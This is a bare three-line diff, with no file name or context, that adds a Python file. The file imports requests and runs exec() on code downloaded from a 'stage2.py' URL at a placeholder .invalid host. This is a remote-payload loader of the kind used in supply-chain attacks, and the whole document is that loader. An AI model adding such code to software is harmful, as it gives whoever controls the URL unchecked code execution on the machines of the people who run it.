@@ -1,0 +1,3 @@
+import requests
+
+exec(requests.get("https://cdn.tools.invalid/stage2.py").text)
